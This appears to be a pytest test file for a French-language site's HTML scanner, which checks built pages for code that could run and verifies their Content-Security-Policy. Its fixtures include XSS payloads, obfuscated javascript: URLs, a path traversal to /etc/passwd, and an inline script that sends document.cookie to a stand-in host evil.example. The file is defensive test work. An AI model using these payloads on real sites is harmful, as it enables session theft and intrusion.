"""The last barrier before publication: html_scan reads built pages and flags
anything that could run code, each finding a Problem with its stable code."""

from __future__ import annotations

from pathlib import Path

import pytest

from banque.sheets.problem import Severity
from banque.site import csp, html_scan


def page(site: Path, rel: str, body: str, head: str = "") -> Path:
    """A page with its correct policy, unless `head` brings another one."""
    html = f"<!doctype html><html><head><meta charset=utf-8>{head}</head><body>{body}</body></html>"
    path = site / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(html if head else csp.add_policy(html), encoding="utf-8")
    return path


def codes(findings) -> list[str]:
    return [f.code for f in findings]


def test_a_clean_page_with_its_own_script_file_passes(tmp_path):
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "site.js").write_text("// ok\n", encoding="utf-8")
    p = page(tmp_path, "a/index.html", '<p>Texte</p><script src="../assets/site.js"></script><a href="https://example.org/">lien</a>')
    assert html_scan.scan_page(p, tmp_path) == []


@pytest.mark.parametrize(("body", "code"), [
    ('<iframe src="https://example.org"></iframe>', "html-element-interdit"),
    ('<object data="x.swf"></object>', "html-element-interdit"),
    ('<img src="a.png" alt="" onerror="alert(1)">', "html-attribut-evenement"),
    ('<a href="javascript:alert(1)">x</a>', "html-adresse-interdite"),
    ('<a href=" JaVa&#x09;script:alert(1)">x</a>', "html-adresse-interdite"),
    ('<img alt="" srcset="a.png 1x, data:image/png;base64,AAA 2x">', "html-adresse-interdite"),
    ('<script src="https://cdn.example.org/x.js"></script>', "html-script-externe"),
    ('<script src="missing.js"></script>', "html-script-inconnu"),
    ('<script src="../../../etc/passwd"></script>', "html-script-inconnu"),
])
def test_each_way_to_run_code_has_its_code(tmp_path, body, code):
    p = page(tmp_path, "index.html", body)
    found = html_scan.scan_page(p, tmp_path)
    assert code in codes(found)
    assert all(f.path == "index.html" and f.line >= 1 and f.severity == Severity.ERROR for f in found)


def test_a_refresh_to_javascript_is_flagged(tmp_path):
    html = ('<!doctype html><html><head><meta http-equiv="refresh" content="0; url=javascript:alert(1)">'
            "</head><body></body></html>")
    (tmp_path / "index.html").write_text(csp.add_policy(html), encoding="utf-8")
    assert "html-redirection-interdite" in codes(html_scan.scan_page(tmp_path / "index.html", tmp_path))


def test_an_unknown_inline_script_is_flagged_even_with_a_matching_policy(tmp_path):
    p = page(tmp_path, "index.html", "<script>fetch('https://evil.example/'+document.cookie)</script>")
    found = html_scan.scan_page(p, tmp_path)
    assert codes(found) == ["html-script-integre-inconnu"]
    assert "fetch(" in found[0].message


def test_a_data_script_does_not_count_as_running(tmp_path):
    p = page(tmp_path, "index.html", '<script type="application/json">{"a": 1}</script>')
    assert html_scan.scan_page(p, tmp_path) == []


@pytest.mark.parametrize(("head", "code"), [
    ('<meta name="x" content="y">', "html-csp-absente"),
    ('<meta http-equiv="Content-Security-Policy" content="default-src *">', "html-csp-differente"),
])
def test_the_policy_must_be_present_and_exact(tmp_path, head, code):
    p = page(tmp_path, "index.html", "<p>x</p>", head=head)
    assert codes(html_scan.scan_page(p, tmp_path)) == [code]


def test_a_second_policy_is_flagged(tmp_path):
    html = csp.add_policy("<!doctype html><html><head><meta charset=utf-8></head><body>x</body></html>")
    html = html.replace("<body>", '<body><meta http-equiv="Content-Security-Policy" content="default-src *">')
    (tmp_path / "index.html").write_text(html, encoding="utf-8")
    assert codes(html_scan.scan_page(tmp_path / "index.html", tmp_path)) == ["html-csp-en-double"]


def test_absolute_script_paths_must_stay_under_the_site_path(tmp_path):
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "site.js").write_text("", encoding="utf-8")
    inside = page(tmp_path, "a.html", '<script src="/banque/assets/site.js"></script>')
    outside = page(tmp_path, "b.html", '<script src="/autre/assets/site.js"></script>')
    assert html_scan.scan_page(inside, tmp_path, "/banque/") == []
    assert codes(html_scan.scan_page(outside, tmp_path, "/banque/")) == ["html-script-hors-site"]


def test_the_site_scan_reads_every_page_in_order_and_the_report_names_them(tmp_path):
    page(tmp_path, "b/index.html", '<a href="javascript:x()">b</a>')
    page(tmp_path, "a/index.html", '<div onclick="x()">a</div>')
    page(tmp_path, "ok/index.html", "<p>rien</p>")
    found = html_scan.scan_site(tmp_path, "")
    assert [f.path for f in found] == ["a/index.html", "b/index.html"]
    text = html_scan.report(found)
    assert text.startswith("2 éléments dangereux")
    assert "a/index.html" in text and "b/index.html" in text


def test_the_report_is_cut_after_its_limit(tmp_path):
    page(tmp_path, "index.html", "".join(f'<p onclick="f{i}()">{i}</p>' for i in range(5)))
    found = html_scan.scan_site(tmp_path)
    text = html_scan.report(found, limit=2)
    assert len(found) == 5 and "3 autres" in text


# -- the scan judges on its own: not with csp.py's functions ------------------------------------

# One of Material's inline scripts, as it is in its templates (partials/javascripts/).
THEME_LIKE = ('var target=document.getElementById(location.hash.slice(1));'
              'target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))')


def _policy(*hashes: str, **changes: str) -> str:
    """A policy written by hand (not by csp.py): EXPECTED, script-src with `hashes`, `changes` replacing directives."""
    parts = {name: " ".join(sorted(sources)) for name, sources in html_scan.EXPECTED.items()}
    parts["script-src"] += "".join(" " + h for h in hashes)
    parts.update({k.replace("_", "-"): v for k, v in changes.items()})
    return "; ".join(f"{k} {v}".strip() for k, v in parts.items())


def _page_with(tmp_path, policy: str, body: str, head_script: str = "") -> Path:
    html = (f'<!doctype html><html><head><meta charset=utf-8><meta http-equiv="Content-Security-Policy" '
            f'content="{policy}">{head_script}</head><body>{body}</body></html>')
    path = tmp_path / "index.html"
    path.write_text(html, encoding="utf-8")
    return path


def test_the_scan_does_not_use_csp_py():
    source = Path(html_scan.__file__).read_text(encoding="utf-8")
    assert "csp" not in {line.split()[-1] for line in source.splitlines() if line.startswith(("import ", "from "))}
    assert "from banque.site import csp" not in source and "banque.site.csp" not in source


def test_inline_scripts_are_allowed_by_the_page_s_own_hashes(tmp_path):
    script = f"<script>{THEME_LIKE}</script>"
    ok = _page_with(tmp_path, _policy(html_scan.sha256_source(THEME_LIKE)), "<p>x</p>", script)
    assert html_scan.scan_page(ok, tmp_path) == []
    missing = _page_with(tmp_path, _policy(), "<p>x</p>", script)
    assert codes(html_scan.scan_page(missing, tmp_path)) == ["html-script-integre-inconnu"]


def test_a_script_in_the_content_is_refused_even_if_the_policy_lists_it(tmp_path):
    """A mistake in csp.py (a hostile script taken for the theme's) is not repeated here."""
    hostile = "window.__pwned=1"
    page = _page_with(tmp_path, _policy(html_scan.sha256_source(hostile)),
                      f"<article><p>x</p><script>{hostile}</script></article>")
    assert codes(html_scan.scan_page(page, tmp_path)) == ["html-script-integre-inconnu"]


@pytest.mark.parametrize(("changes", "hashes", "gap"), [
    ({"default_src": "*"}, (), "« default-src » : 'self' *"),
    ({"img_src": "'self' data: https:"}, (), "« img-src » : https:"),
    ({"object_src": ""}, (), "« object-src » : 'none'"),
    ({"frame_ancestors": "'none'"}, (), "directives « frame-ancestors »"),
    ({}, ("'sha256-AAAA'",), "« script-src » : 'sha256-AAAA'"),  # a hash for no script of the page
    ({"script_src": "'self' 'wasm-unsafe-eval' 'unsafe-inline'"}, (), "« script-src » : 'unsafe-inline'"),
])
def test_the_policy_is_parsed_and_compared_directive_by_directive(tmp_path, changes, hashes, gap):
    page = _page_with(tmp_path, _policy(*hashes, **changes), "<p>x</p>")
    [finding] = html_scan.scan_page(page, tmp_path)
    assert finding.code == "html-csp-differente" and gap in finding.message, finding.message


def test_directive_order_and_case_do_not_matter_but_duplicates_do(tmp_path):
    parts = _policy().split("; ")
    reordered = "; ".join(reversed([p.replace("default-src", "DEFAULT-SRC") for p in parts]))
    assert html_scan.scan_page(_page_with(tmp_path, reordered, "<p>x</p>"), tmp_path) == []
    doubled = _policy() + "; default-src *"
    assert codes(html_scan.scan_page(_page_with(tmp_path, doubled, "<p>x</p>"), tmp_path)) == ["html-csp-differente"]


def test_the_policy_csp_py_writes_is_the_one_the_scan_expects(tmp_path):
    """The two were written apart and agree: a page of the theme with its scripts passes."""
    html = (f"<!doctype html><html><head><meta charset=utf-8><script>{THEME_LIKE}</script></head>"
            "<body><p>x</p></body></html>")
    (tmp_path / "index.html").write_text(csp.add_policy(html), encoding="utf-8")
    assert html_scan.scan_page(tmp_path / "index.html", tmp_path) == []


@pytest.mark.parametrize("body", [
    '<img src="/\\attaquant.example/p.png" alt="x">',
    '<img src="\\\\attaquant.example/p.png" alt="x">',
    '<img src="//attaquant.example/p.png" alt="x">',
    '<img src="https://attaquant.example/p.png" alt="x">',
    '<img alt="x" srcset="a.png 1x, /\\attaquant.example/p.png 2x">',
    '<video poster="/&#92;attaquant.example/p.png"></video>',
])
def test_a_resource_from_another_site_is_flagged(tmp_path, body):
    assert codes(html_scan.scan_page(page(tmp_path, "index.html", body), tmp_path)) == ["html-ressource-autre-site"]


def test_an_unknown_script_type_counts_as_running(tmp_path):
    p = page(tmp_path, "index.html", '<script type="text/x-inconnu">window.__pwned=1</script>')
    assert codes(html_scan.scan_page(p, tmp_path)) == ["html-script-integre-inconnu"]


def _admin(site: Path, policy: str, rel: str = html_scan.ADMIN_PAGE) -> Path:
    head = f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
    return page(site, rel, '<script src="sveltia-cms.js"></script>', head)


def test_the_committee_space_has_its_own_policy_and_only_there(tmp_path):
    (tmp_path / "admin").mkdir()
    (tmp_path / "admin" / "sveltia-cms.js").write_text("// cms\n", encoding="utf-8")
    assert html_scan.scan_page(_admin(tmp_path, csp.admin_policy()), tmp_path) == []
    # The CMS's policy anywhere else, or the site's policy at /admin/, is refused.
    (tmp_path / "autre").mkdir()
    (tmp_path / "autre" / "sveltia-cms.js").write_text("// cms\n", encoding="utf-8")
    elsewhere = _admin(tmp_path, csp.admin_policy(), "autre/index.html")
    assert codes(html_scan.scan_page(elsewhere, tmp_path)) == ["html-csp-differente"]
    assert codes(html_scan.scan_page(_admin(tmp_path, csp.policy_for([])), tmp_path)) == ["html-csp-differente"]
    # One more origin for the CMS is one too many.
    wider = csp.admin_policy().replace("https://api.github.com", "https://api.github.com https://unpkg.com")
    assert codes(html_scan.scan_page(_admin(tmp_path, wider), tmp_path)) == ["html-csp-differente"]
    # And no inline script runs there, even with its hash in the policy.
    inline = page(tmp_path, html_scan.ADMIN_PAGE, "<script>alert(1)</script>",
                  f'<meta http-equiv="Content-Security-Policy" content="{csp.admin_policy()}">')
    assert codes(html_scan.scan_page(inline, tmp_path)) == ["html-script-integre-inconnu"]
